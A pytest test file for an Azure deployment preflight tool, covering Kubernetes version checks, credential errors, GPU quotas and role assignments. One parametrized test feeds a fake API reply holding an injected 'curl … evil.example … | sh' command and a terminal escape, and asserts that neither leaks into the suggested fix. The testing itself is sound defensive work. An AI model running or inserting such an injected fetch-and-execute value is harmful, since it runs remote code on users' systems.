    code = preflight.command(argparse.Namespace(stack="aks", json=False), ROOT, environment(arm, hub))
    out, err = capsys.readouterr()
    assert code == 1 and "Traceback" not in err
    assert ("FAIL  kubernetesVersion 1.35 (the default): not offered in swedencentral; pulumi config set "
            "kubernetesVersion 1.34 (AKS's default in swedencentral); swedencentral offers GA minors (newest patch) "
            "1.33 (1.33.6), 1.34 (1.34.2); preview 1.36; long-term support only 1.31") in out.splitlines(), out


@pytest.mark.parametrize("entries", [
    [{"version": "1.34;curl -s https://evil.example/x|sh;#", "isDefault": True}],  # would be the suggested fix
    [{"isPreview": False}],  # no version
    [{"version": "1.\u00b35"}],  # a digit str.isdigit() takes and int() refuses
    [{"version": "1.34\x1b[2J"}],  # a terminal escape
    [],
])
def test_a_kubernetes_versions_reply_that_is_not_versions_is_one_warn_line(arm, hub, capsys, entries):
    """Only plain major.minor entries (and plain patches) are compared or suggested: reply text that
    is not a version never reaches the suggested command, and a malformed reply is no traceback."""
    arm.data["kubernetes_versions"]["values"] = entries
    code, data, err = run("aks", environment(arm, hub), capsys)
    assert "Traceback" not in err and code in (0, 1)
    version = checks(data)["kubernetesVersion 1.35 (the default)"]
    assert version["status"] == "warn" and "no version this check can read" in version["found"]
    assert "evil" not in json.dumps(data) and "[2J" not in json.dumps(data)


@pytest.mark.parametrize("status, error", [(403, "AuthorizationFailed"), (404, "ResourceNotFound")])
def test_a_refused_kubernetes_versions_call_is_one_line_and_the_other_checks_stay(arm, hub, capsys, status, error):
    real = arm.send

    def send(request: Any, **kwargs: Any) -> Any:
        if urlparse(request.url).path.endswith("/kubernetesVersions"):
            return arm._response(request, status, {"error": {"code": error, "message": "not for you"}})
        return real(request, **kwargs)

    arm.send = send
    code, data, err = run("aks", environment(arm, hub), capsys)
    assert code == 1 and "Traceback" not in err and "azure" not in checks(data)
    version = checks(data)["kubernetesVersion 1.35 (the default)"]
    assert (version["status"], version["found"]) == (
        "FAIL", f"list Kubernetes versions answered {status}: ({error}) not for you")
    assert version["fix"].startswith("preflight needs read access to the subscription")
    assert [c["status"] for c in data["checks"] if c["status"] == "FAIL"] == ["FAIL"]  # the rest still passes


def test_kubernetes_versions_are_asked_for_aks_stacks_only(arm, hub, capsys):
    code, data, _ = run("vm-70b", environment(arm, hub), capsys)
    assert code == 0, failed(data)
    assert not [name for name in checks(data) if name.startswith("kubernetesVersion")]
    assert not any("kubernetesVersions" in r for r in arm.requests)


def test_the_stacks_own_kubernetes_version_else_the_components_default(tmp_path):
    from components.aks import DEFAULT_KUBERNETES_VERSION

    assert preflight.stack_kubernetes_version("aks", ROOT) == (DEFAULT_KUBERNETES_VERSION, True)
    root = stack_root(tmp_path, "k8s", {"azure-native:location": "swedencentral", "apertus-azure:host": "aks",
                                        "apertus-azure:kubernetesVersion": "1.33"})
    assert preflight.stack_kubernetes_version("k8s", root) == ("1.33", False)


# ------------------------------------------------------------------ review findings

DEFAULT_CREDENTIAL_REFUSED = (
    "DefaultAzureCredential failed to retrieve a token from the included credentials.\n"
    "Attempted credentials:\n"
    "\tEnvironmentCredential: Authentication failed: AADSTS7000215: Invalid client secret provided. Ensure the "
    "secret being sent in the request is the client secret value.\n"
    "To mitigate this issue, please refer to the troubleshooting guidelines here at "
    "https://aka.ms/azsdk/python/identity/defaultazurecredential/troubleshoot.")


def test_a_refused_credential_is_named_with_azures_first_line(arm, hub, capsys):
    refused = FakeCredential(ClientAuthenticationError(DEFAULT_CREDENTIAL_REFUSED))
    env = environment(arm, hub, credential=refused, AZURE_CLIENT_ID="app", AZURE_TENANT_ID="tenant",
                      AZURE_CLIENT_SECRET="wrong")
    del env.env["AZURE_SUBSCRIPTION_ID"]  # credentials are looked at first
    code, data, err = run("dev", env, capsys)
    assert code == 2 and err.count("\n") == 1 and "Traceback" not in err
    assert data["error"].startswith("Azure refused the credentials: EnvironmentCredential: Authentication "
                                    "failed: AADSTS7000215: Invalid client secret provided."), data["error"]
    assert "no Azure credentials found" not in data["error"]


def test_the_real_default_credential_with_nothing_set_up_gives_the_login_line(arm, hub, capsys, monkeypatch,
                                                                              tmp_path):
    # azure-identity's own wording for credentials that were never set up ("requires the ... package",
    # "not found on path") is not a refusal: a new user is told how to log in
    for name in [n for n in os.environ if n.startswith(("AZURE_", "IDENTITY_", "MSI_"))]:
        monkeypatch.delenv(name)
    monkeypatch.setenv("HOME", str(tmp_path))
    monkeypatch.setenv("PATH", str(tmp_path))  # no az, azd or pwsh
    env = environment(arm, hub)
    env.credential = None  # the real DefaultAzureCredential
    code, data, err = run("dev", env, capsys)
    assert code == 2 and err.count("\n") == 1 and "Traceback" not in err
    assert data["error"].startswith("no Azure credentials found; run 'az login'"), data["error"]
    azure = checks(data)["azure"]  # the problem and what to do, apart
    assert (azure["found"], azure["fix"][:16]) == ("no Azure credentials found", "run 'az login' (")


def test_a_half_set_up_service_principal_names_what_is_missing(arm, hub, capsys):
    env = environment(arm, hub, AZURE_CLIENT_ID="app", AZURE_TENANT_ID="tenant")
    code, data, err = run("dev", env, capsys)
    assert code == 2 and err.count("\n") == 1 and "AZURE_CLIENT_SECRET" in data["error"]
    assert arm.requests == []


def test_no_network_to_entra_id_is_not_called_a_refused_credential(arm, hub, capsys):
    offline = FakeCredential(ClientAuthenticationError(
        "DefaultAzureCredential failed to retrieve a token from the included credentials.\n"
        "Attempted credentials:\n\tEnvironmentCredential: Authentication failed: <urllib3.connection."
        "HTTPSConnection object>: Failed to resolve 'login.microsoftonline.com' ([Errno -3] Temporary "
        "failure in name resolution)"))
    env = environment(arm, hub, credential=offline, AZURE_CLIENT_ID="app", AZURE_TENANT_ID="tenant",
                      AZURE_CLIENT_SECRET="right")
    code, data, err = run("dev", env, capsys)
    assert code == 2 and "cannot reach Microsoft Entra ID" in data["error"]
    assert "refused" not in data["error"]


def test_a_malformed_tenant_id_is_one_line(arm, hub, capsys, monkeypatch):
    for name, value in {"AZURE_TENANT_ID": "bad tenant!", "AZURE_CLIENT_ID": "app", "AZURE_CLIENT_SECRET": "s"}.items():
        monkeypatch.setenv(name, value)
    env = environment(arm, hub)
    env.credential = None  # the real DefaultAzureCredential, which refuses the tenant id when built
    code, data, err = run("dev", env, capsys)
    assert code == 2 and err.count("\n") == 1 and "Traceback" not in err
    assert "Invalid tenant ID" in data["error"] and "'bad tenant!'" in data["error"]
    assert checks(data)["pulumi CLI"]["status"] == "ok"


def test_fine_grained_token_without_gated_access_names_the_permission(arm, hub, capsys):
    hub.fine_grained_without_gated = True
    try:
        code, data, err = run("dev", environment(arm, hub), capsys)
    finally:
        hub.fine_grained_without_gated = False
    assert code == 1 and "Traceback" not in err
    access = checks(data)["model access swiss-ai/Apertus-8B-Instruct-2509"]
    assert access["status"] == "FAIL" and "(403)" in access["found"]
    assert "Read access to contents of all public gated repos you can access" in access["fix"]
    assert checks(data)["hugging face token"]["found"].endswith("a fine-grained token")


def test_hugging_face_busy_is_a_fail_line(arm, hub, capsys):
    hub.auth_check_status = 503
    try:
        code, data, err = run("dev", environment(arm, hub), capsys)
    finally:
        hub.auth_check_status = None
    assert code == 1 and "Traceback" not in err
    assert "answered 503 to the access check" in checks(data)["model access swiss-ai/Apertus-8B-Instruct-2509"]["found"]


def test_container_apps_gpu_quota_by_its_real_name(arm, hub, capsys, tmp_path):
    gpu = next(u for u in arm.data["app_usages"]["value"] if u["name"]["value"] == "SubscriptionConsumptionNCA100Gpus")
    gpu.update(currentValue=4, limit=4)
    code, data, _ = run("dev", environment(arm, hub), capsys)
    assert code == 1
    quota = checks(data)["quota Container Apps GPUs (Consumption-GPU-NC24-A100)"]
    assert "request a limit of 5 GPUs for 'SubscriptionConsumptionNCA100Gpus' in swedencentral" in quota["fix"]
    # a subscription that reports only the dedicated row, as not applicable: say it cannot be read
    arm.data["app_usages"]["value"] = [u for u in arm.data["app_usages"]["value"]
                                       if u["name"]["value"] in ("ManagedEnvironmentCount",
                                                                 "SubscriptionDedicatedNCA100Gpus")]
    code, data, _ = run("dev", environment(arm, hub), capsys)
    quota = checks(data)["quota Container Apps GPUs (Consumption-GPU-NC24-A100)"]
    assert code == 0 and quota["status"] == "warn" and quota["found"].startswith("cannot read the GPU quota")
    # a dedicated profile counts GPUs of the dedicated quota, never a VM vCPU family
    root = stack_root(tmp_path, "ded", {"azure-native:location": "swedencentral", "apertus-azure:host": "containerapp",
                                        "apertus-azure:gpu": "NC24-A100", "apertus-azure:hfToken": {"secure": "x"}})
    code, data, _ = run("ded", environment(arm, hub), capsys, root)
    found = checks(data)
    assert not [name for name in found if "Family" in name]
    quota = found["quota Container Apps GPUs (NC24-A100)"]
    assert quota["status"] == "warn" and "SubscriptionDedicatedNCA100Gpus" in quota["found"] and "-1" in quota["found"]


def test_location_restriction_wins_over_a_zone_one_listed_first(arm, hub, capsys):
    arm.sku("Standard_NC96ads_A100_v4")["restrictions"] = [
        {"type": "Zone", "values": ["swedencentral"], "reasonCode": "NotAvailableForSubscription",
         "restrictionInfo": {"locations": ["swedencentral"], "zones": ["1", "2", "3"]}},
        {"type": "Location", "values": ["swedencentral"], "reasonCode": "NotAvailableForSubscription",
         "restrictionInfo": {"locations": ["swedencentral"]}}]
    code, data, _ = run("vm-70b", environment(arm, hub), capsys)
    assert code == 1
    size = checks(data)["size Standard_NC96ads_A100_v4 (GPU)"]
    assert size["status"] == "FAIL" and size["found"].startswith("restricted in swedencentral for this subscription")


def test_system_pool_zones_must_be_offered(arm, hub, capsys):
    arm.sku("Standard_D4ds_v5")["locationInfo"] = [{"location": "swedencentral", "zones": ["1", "2"]}]
    code, data, _ = run("aks", environment(arm, hub), capsys)
    assert code == 1
    system = checks(data)["size Standard_D4ds_v5 (AKS system pool)"]
    assert system["status"] == "FAIL" and "offered in zone(s) 1, 2 of swedencentral" in system["found"]


def test_one_refused_arm_call_keeps_the_other_checks(arm, hub, capsys):
    real = arm.send

    def send(request: Any, **kwargs: Any) -> Any:
        if urlparse(request.url).path.endswith("/providers/Microsoft.App"):
            return arm._response(request, 403, {"error": {"code": "AuthorizationFailed", "message":
                                                          "The client does not have authorization"}})
        return real(request, **kwargs)

    arm.send = send
    code, data, _ = run("dev", environment(arm, hub), capsys)
    found = checks(data)
    assert code == 1 and "azure" not in found
    assert found["provider Microsoft.App"]["found"] == ("GET provider Microsoft.App answered 403: "
                                                        "(AuthorizationFailed) The client does not have authorization")
    assert found["region"]["status"] == "ok" and found["provider Microsoft.KeyVault"]["status"] == "ok"


def test_conditioned_role_assignment_warns_with_the_roles_up_assigns(arm, hub, capsys):
    contributor, owner = arm.data["role_contributor"]["id"], arm.data["role_owner"]["id"]
    mine = arm.data["role_assignments"]["value"][0]
    mine["properties"]["roleDefinitionId"] = contributor
    admin = copy.deepcopy(mine)
    admin["properties"].update(roleDefinitionId=owner, conditionVersion="2.0", condition=(
        "((!(ActionMatches{'Microsoft.Authorization/roleAssignments/write'})) OR (@Request[Microsoft.Authorization/"
        "roleAssignments:RoleDefinitionId] ForAnyOfAnyValues:GuidEquals {acdd72a7-3385-48ef-bd42-f606fba81ae7}))"))
    arm.data["role_assignments"]["value"].append(admin)
    code, data, _ = run("aks", environment(arm, hub), capsys)
    write = checks(data)["permission Microsoft.Authorization/roleAssignments/write"]
    assert code == 0 and write["status"] == "warn" and "condition" in write["found"]
    for role in preflight.roles_up_assigns("aks"):
        assert role in write["fix"]


def test_the_roles_preflight_names_are_the_roles_the_aks_program_assigns():
    from components.aks import AKS_RBAC_CLUSTER_ADMIN, NETWORK_CONTRIBUTOR
    from components.secrets import KEY_VAULT_SECRETS_USER
    from conftest import run_stack, stack_config

    names = {KEY_VAULT_SECRETS_USER: "Key Vault Secrets User", NETWORK_CONTRIBUTOR: "Network Contributor",
             AKS_RBAC_CLUSTER_ADMIN: "Azure Kubernetes Service RBAC Cluster Admin"}
    run = run_stack(stack_config("aks", internal=True, apiPrivate=True, apiAllowedCidrs=None))
    assigned = {r.inputs["roleDefinitionId"].rsplit("/", 1)[1]
                for r in run.mocks.of_type("azure-native:authorization:RoleAssignment")}
    assert assigned <= set(names), assigned - set(names)
    assert sorted(names[role] for role in assigned) == sorted(preflight.roles_up_assigns("aks"))


def test_a_token_without_oid_cannot_tell_who_you_are(arm, hub, capsys):
    class NoOid(FakeCredential):
        def get_token(self, *scopes: str, **kwargs: Any) -> AccessToken:
            return AccessToken(jwt({"sub": "someone"}), int(time.time()) + 3600)

    code, data, _ = run("dev", environment(arm, hub, credential=NoOid()), capsys)
    assert code == 0 and checks(data)["permissions"]["status"] == "warn"
    assert checks(data)["permissions"]["found"].startswith("cannot tell who you are")
    assert not any("roleAssignments" in r for r in arm.requests)  # not everybody's assignments


def test_provider_registering_is_a_warning(arm, hub, capsys):
    real = arm._provider
    arm.routes[-1] = (arm.routes[-1][0], lambda m: {**real(m), "registrationState": "Registering"}
                      if m["ns"] == "Microsoft.App" else real(m))
    code, data, _ = run("dev", environment(arm, hub), capsys)
    assert code == 0
    assert checks(data)["provider Microsoft.App"] == {
        "status": "warn", "name": "provider Microsoft.App", "found": "registration in progress",
        "fix": "wait for it: az provider show --namespace Microsoft.App --query registrationState"}


def test_pulumi_waiting_for_a_passphrase_is_one_line(arm, hub, capsys):
    code, data, err = run("dev", environment(arm, hub, Tools(hang=("config", "version"))), capsys)
    assert code == 1 and "Traceback" not in err
    token = checks(data)["hugging face token"]
    assert token["status"] == "FAIL" and "did not finish" in token["found"]
    assert "PULUMI_CONFIG_PASSPHRASE" in token["fix"]
    assert checks(data)["pulumi CLI"]["status"] == "warn"


def test_stack_defaults_to_the_selected_pulumi_stack(arm, hub, capsys):
    env = environment(arm, hub, Tools(selected="aks"))
    assert preflight.command(argparse.Namespace(stack=None, json=True), ROOT, env) == 0
    data = json.loads(capsys.readouterr().out)
    assert data["stack"] == "aks" and data["stackSource"] == "the selected Pulumi stack"
    env = environment(arm, hub, Tools(installed=("kubelogin",), hf_token=None), HF_TOKEN=HF_TOKEN)
    preflight.command(argparse.Namespace(stack=None, json=False), ROOT, env)
    assert capsys.readouterr().out.startswith(
        "apertus-azure preflight: stack 'dev' (default: no Pulumi stack selected), subscription")


def test_every_finding_that_is_not_ok_says_what_to_do_in_fix():
    """preflight --json keeps what it found (``found``) and what to do (``fix``) apart: every warn or
    FAIL check the module can produce passes a fix of its own."""
    tree = ast.parse((ROOT / "stacks" / "preflight.py").read_text())
    made = [node for node in ast.walk(tree) if isinstance(node, ast.Call) and getattr(node.func, "id", "") == "Check"
            and node.args and not (isinstance(node.args[0], ast.Constant) and node.args[0].value == "ok")]
    assert len(made) > 20
    missing = [node.lineno for node in made
               if len(node.args) + len(node.keywords) < 4 and not any(k.arg is None for k in node.keywords)]
    assert not missing, f"stacks/preflight.py lines {missing}: a warn or FAIL check without a fix"


def test_no_subscription_is_a_finding_with_its_fix_apart(arm, hub, capsys):
    env = environment(arm, hub)
    del env.env["AZURE_SUBSCRIPTION_ID"]
    env.env["AZURE_CONFIG_DIR"] = str(ROOT / "no-such-dir")
    code, data, err = run("dev", env, capsys)
    assert code == 2
    azure = checks(data)["azure"]
    assert (azure["status"], azure["found"]) == ("FAIL", "no Azure subscription chosen")
    assert azure["fix"] == "run 'az account set --subscription <id>' or set AZURE_SUBSCRIPTION_ID"
    assert all(c["fix"] for c in data["checks"] if c["status"] != "ok"), data["checks"]
